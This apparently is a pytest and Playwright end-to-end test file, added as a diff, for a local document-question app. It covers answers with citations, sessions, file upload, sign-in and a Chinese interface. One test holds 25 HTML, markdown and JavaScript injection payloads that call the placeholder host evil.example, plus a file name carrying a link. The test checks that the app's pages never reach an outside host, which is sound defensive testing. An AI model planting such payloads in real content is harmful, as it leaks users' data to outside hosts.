@@ -1,0 +1,330 @@
+"""The app as a person uses it: the real server with the default models, in a real browser."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, ConsoleMessage, Page, Request
+
+pytestmark = [pytest.mark.models, pytest.mark.slow]
+RAG = Path(sys.executable).with_name("rag")
+SAMPLES = Path(__file__).parents[2] / "apps" / "samples"
+BATTERY = "How long does a full battery of the SLM-210 last?"
+WAIT = 120_000  # milliseconds: other tests keep the machine busy
+
+
+@dataclass
+class App:
+    """A running app; ``foreign`` are the requests of all its pages that went elsewhere."""
+
+    url: str
+    index: Path
+    browser: Browser
+    foreign: list[str] = field(default_factory=list)
+    troubles: list[str] = field(default_factory=list)
+
+    def open(self, path: str = "/", *, width: int = 1280, locale: str = "en-GB") -> Page:
+        """A page in a browser session of its own."""
+        context = self.browser.new_context(viewport={"width": width, "height": 900}, locale=locale)
+        page = context.new_page()
+        page.set_default_timeout(WAIT)
+        page.on("request", self._asked)
+        page.on("console", self._said)
+        page.on("pageerror", lambda error: self.troubles.append(str(error)))
+        page.goto(self.url + path)
+        return page
+
+    def _said(self, message: ConsoleMessage) -> None:
+        # Streamlit looks for its server below a page's own path first
+        if message.type == "error" and "/documents/_stcore/" not in message.location["url"]:
+            self.troubles.append(f"{message.text} {message.location['url']}")
+
+    def _asked(self, request: Request) -> None:
+        address = request.url
+        if not address.startswith((self.url, "data:", f"blob:{self.url}")):
+            self.foreign.append(address)
+
+
+def started(folder: Path, browser: Browser, *options: str) -> tuple[subprocess.Popen[bytes], App]:
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        port = taken.getsockname()[1]
+    environment = {**os.environ, "RAGSTONE_SESSIONS": str(folder / "sessions.sqlite"), "HF_HUB_OFFLINE": "1"}
+    with (folder / "app.log").open("wb") as log:
+        server = subprocess.Popen(
+            [RAG, "app", "--no-browser", "--port", str(port), "--index", folder / "index", *options],
+            cwd=folder,
+            env=environment,
+            stdout=log,
+            stderr=subprocess.STDOUT,
+            start_new_session=True,
+        )
+    url = f"http://127.0.0.1:{port}"
+    for _ in range(240):
+        try:
+            urllib.request.urlopen(f"{url}/", timeout=5).close()
+            break
+        except OSError:
+            if server.poll() is not None:
+                pytest.fail((folder / "app.log").read_text())
+            time.sleep(0.25)
+    return server, App(url, folder / "index", browser)
+
+
+def stopped(server: subprocess.Popen[bytes]) -> None:
+    os.killpg(server.pid, signal.SIGINT)
+    try:
+        server.wait(30)
+    finally:
+        if server.poll() is None:
+            os.killpg(server.pid, signal.SIGKILL)
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[App]:
+    folder = tmp_path_factory.mktemp("app")
+    server, found = started(folder, browser)
+    yield found
+    stopped(server)
+    assert not found.foreign
+    assert not found.troubles
+    assert "Traceback" not in (folder / "app.log").read_text()
+
+
+@pytest.fixture(scope="module")
+def sampled(app: App) -> App:
+    """The app, with the samples taken in by a click."""
+    page = app.open()
+    page.get_by_role("button", name="Try it with sample documents").click()
+    page.get_by_placeholder("Ask about your documents").wait_for()
+    page.context.close()
+    return app
+
+
+def ask(page: Page, question: str) -> None:
+    """Ask, and wait until the answer is there."""
+    answers = page.locator(".answer .verdict")
+    before = answers.count()
+    box = page.get_by_placeholder("Ask about your documents")
+    box.fill(question)
+    box.press("Enter")
+    answers.nth(before).wait_for()
+    page.get_by_role("button", name="Stop").wait_for(state="detached")
+
+
+def test_a_first_question_and_the_words_it_stands_on(sampled: App):
+    page = sampled.open()
+    page.get_by_role("button", name=BATTERY).click()
+    page.locator(".answer .verdict").wait_for()
+    assert page.locator(".answer .verdict").inner_text() == "Supported"
+    assert "22 hours" in page.locator(".answer .sentences").inner_text()
+    page.locator(".answer button.cite").first.click()
+    page.locator(".source .page .quote").first.wait_for()
+    assert "page 1" in page.inner_text("body")
+    marked = words_in_boxes(SAMPLES / "slm-210-manual.pdf", page)
+    assert "A full battery lasts 22 hours, or 17" in marked
+    assert "hours when Bluetooth is switched on" in marked
+    assert "Charging takes" not in marked
+    page.get_by_role("button", name="Close").click()
+    page.locator(".source").wait_for(state="detached")
+    page.context.close()
+
+
+def words_in_boxes(pdf: Path, page: Page) -> str:
+    """What PDFium reads in the boxes that are shown on the picture of the first page."""
+    import pypdfium2
+
+    boxes = page.locator(".source .page .quote").evaluate_all(
+        "all => all.map(one => ['left', 'top', 'width', 'height'].map(key => parseFloat(one.style[key]) / 100))"
+    )
+    with pypdfium2.PdfDocument(pdf.read_bytes()) as document:
+        leaf = document[0]
+        wide, high = leaf.get_size()
+        text = leaf.get_textpage()
+        return " ".join(
+            text.get_text_bounded(left * wide, (1 - top - height) * high, (left + width) * wide, (1 - top) * high)
+            for left, top, width, height in boxes
+        )
+
+
+def test_a_refusal_shows_the_nearest_passages_and_a_follow_up_is_understood(sampled: App):
+    page = sampled.open()
+    ask(page, "How much does the SLM-220 cost?")
+    assert page.locator(".answer .verdict").inner_text() == "Not in the documents"
+    page.get_by_test_id("stExpander").get_by_text("The nearest passages").wait_for()
+    ask(page, "How long is the warranty of the VM-40?")
+    ask(page, "And of the batteries?")
+    assert page.locator(".answer .verdict").count() == 3
+    page.get_by_role("link", name="Look inside").click()
+    page.get_by_text("Every arm's ranking").wait_for()
+    assert "And of the batteries?" in page.inner_text("body")
+    page.context.close()
+
+
+def test_a_session_comes_back_after_a_reload_and_another_browser_sees_nothing_of_it(sampled: App):
+    page = sampled.open()
+    ask(page, "Is the SLM-210 rain proof?")
+    address = page.url
+    page.reload()
+    page.locator(".answer .verdict").wait_for()
+    assert "Is the SLM-210 rain proof?" in page.inner_text("body")
+    other = sampled.open("/" + address.removeprefix(sampled.url).lstrip("/"))
+    other.get_by_placeholder("Ask about your documents").wait_for()
+    assert "rain proof" not in other.inner_text("body")
+    page.context.close()
+    other.context.close()
+
+
+def test_files_are_taken_in_listed_and_deleted_and_a_broken_one_says_why(sampled: App, tmp_path: Path):
+    (tmp_path / "harbour.txt").write_text("The harbour of Zarkov was opened in 1911.")
+    (tmp_path / "tariff.csv").write_text("ship,fee\nZephyr,4711 crowns\n")
+    (tmp_path / "notes.md").write_text("# Pilots\n\nThe chief pilot of Zarkov is Olga Reznik.\n")
+    (tmp_path / "page.html").write_text("<p>The lighthouse of Zarkov is 41 metres high.</p>")
+    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing more")
+    page = sampled.open("/documents")
+    page.locator("input[type=file]").set_input_files(sorted(tmp_path.iterdir()))
+    page.get_by_text("notes.md").first.wait_for()
+    page.get_by_role("button", name="Index").click()
+    page.get_by_text("4 added").wait_for()
+    kept = {path.name for path in sampled.index.with_name("index.files").rglob("*") if path.is_file()}
+    assert kept == {"harbour.txt", "tariff.csv", "notes.md", "page.html", "broken.pdf"}
+    page.get_by_role("link", name="Ask").click()
+    ask(page, "Who is the chief pilot of Zarkov?")
+    assert "Olga Reznik" in page.locator(".answer .sentences").last.inner_text()
+    page.context.close()
+
+
+def test_a_thumb_is_kept_as_a_test_question(sampled: App):
+    page = sampled.open()
+    ask(page, BATTERY)
+    page.get_by_role("button", name="Good answer").click()
+    page.get_by_label("Why? (kept as a test question)").fill("right and short")
+    page.locator("[data-testid=stFormSubmitButton] button", has_text="Good answer").click()
+    page.get_by_text("Kept as a test question.").wait_for()
+    from rag.evaluation.datasets import read_testset
+
+    (question,) = read_testset(sampled.index.with_name("index.questions.jsonl")).questions
+    assert question.text == BATTERY
+    assert question.spans
+    assert question.made["reason"] == "right and short"
+    page.context.close()
+
+
+def test_the_interface_speaks_chinese(sampled: App):
+    page = sampled.open(locale="zh-CN")
+    page.get_by_placeholder("就您的文档提问").wait_for()
+    box = page.get_by_placeholder("就您的文档提问")
+    box.fill("充电电池的保修期为多久？")
+    box.press("Enter")
+    page.locator(".answer .verdict").wait_for()
+    assert re.search(r"[\u4e00-\u9fff]", page.locator(".answer .verdict").inner_text())
+    page.context.close()
+
+
+PAYLOADS = [
+    "![a](http://evil.example/1.png)",
+    "[a](http://evil.example/2)",
+    "[r]: http://evil.example/3\n![x][r]",
+    '<img src="http://evil.example/4.png">',
+    "<img src=x onerror=\"fetch('http://evil.example/5')\">",
+    "<svg onload=\"fetch('http://evil.example/6')\"></svg>",
+    '<svg><image href="http://evil.example/7.png"/></svg>',
+    "<style>@import 'http://evil.example/8.css';</style>",
+    '<div style="background:url(http://evil.example/9.png)">x</div>',
+    '<link rel="stylesheet" href="http://evil.example/10.css">',
+    '<iframe src="http://evil.example/11"></iframe>',
+    "<script>fetch('http://evil.example/12')</script>",
+    '<script src="http://evil.example/13.js"></script>',
+    "<http://evil.example/14>",
+    "http://evil.example/15.png",
+    "[x](javascript:fetch('http://evil.example/16'))",
+    "<a href=\"javascript:fetch('http://evil.example/17')\">x</a>",
+    "$\\href{http://evil.example/18}{x}$",
+    "$$\\includegraphics{http://evil.example/19.png}$$",
+    '<video poster="http://evil.example/20.png" autoplay></video>',
+    '<audio src="http://evil.example/21.mp3" autoplay></audio>',
+    '<object data="http://evil.example/22"></object>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example/23">',
+    '<link rel="prefetch" href="http://evil.example/24">',
+    ':material/home: :red[x] <base href="http://evil.example/25/">',
+]
+
+
+def test_no_document_makes_the_browser_ask_anybody_else(sampled: App, tmp_path: Path):
+    assert len(PAYLOADS) == 25
+    text = "\n\n".join(f"The kraken report number {n} says: {payload}" for n, payload in enumerate(PAYLOADS, 1))
+    (tmp_path / "![i](http:evil.example) kraken.txt").write_text(text)
+    rows = [{"_id": str(n), "title": one, "text": f"Kraken sighting {n}: {one}"} for n, one in enumerate(PAYLOADS)]
+    (tmp_path / "kraken.jsonl").write_text("\n".join(map(json.dumps, rows)))
+    page = sampled.open("/documents")
+    page.locator("input[type=file]").set_input_files(sorted(tmp_path.iterdir()))
+    page.get_by_text("kraken.jsonl").first.wait_for()
+    page.get_by_role("button", name="Index").click()
+    page.get_by_text("added").first.wait_for()
+    page.get_by_role("link", name="Ask").click()
+    for question in ("What does the kraken report number 5 say?", PAYLOADS[0], f"Kraken sighting 3 {PAYLOADS[3]}"):
+        ask(page, question)
+    cites = page.locator(".answer button.cite")
+    if cites.count():
+        cites.first.click()
+        page.locator(".source .quote").first.wait_for()
+    for expander in page.get_by_text("The nearest passages").all():
+        expander.click()
+    page.get_by_role("link", name="Look inside").click()
+    page.get_by_text("Every arm's ranking").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert not sampled.foreign
+    assert page.url.startswith(sampled.url)
+    page.context.close()
+
+
+def test_on_a_phone_nothing_is_cut_off(sampled: App):
+    page = sampled.open(width=390)
+    page.get_by_placeholder("Ask about your documents").wait_for()
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.context.close()
+
+
+def test_where_there_are_users_the_door_is_shut(tmp_path: Path, browser: Browser):
+    for name in ("ann", "bob"):
+        subprocess.run([RAG, "app-user", name], input=b"correct horse\n", cwd=tmp_path, check=True, capture_output=True)
+    server, app = started(tmp_path, browser, "--users", "users.toml")
+    try:
+        page = app.open()
+        assert page.url.endswith("/sign-in")
+        page.get_by_label("Name").fill("ann")
+        page.get_by_label("Password").fill("wrong")
+        page.get_by_role("button", name="Sign in").click()
+        page.get_by_text("Wrong name or password").wait_for()
+        page.get_by_label("Name").fill("ann")
+        page.get_by_label("Password").fill("correct horse")
+        page.get_by_role("button", name="Sign in").click()
+        page.get_by_text("Ask your own documents").wait_for()
+        page.get_by_text("Sign out ann").wait_for()
+    finally:
+        stopped(server)
+    assert not app.foreign
+
+
+def test_it_does_not_start_where_anybody_could_reach_it(tmp_path: Path):
+    done = subprocess.run(
+        [RAG, "app", "--no-browser", "--host", "0.0.0.0"], cwd=tmp_path, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 2
+    assert "nobody would have to sign in" in done.stderr
+    assert "Traceback" not in done.stderr
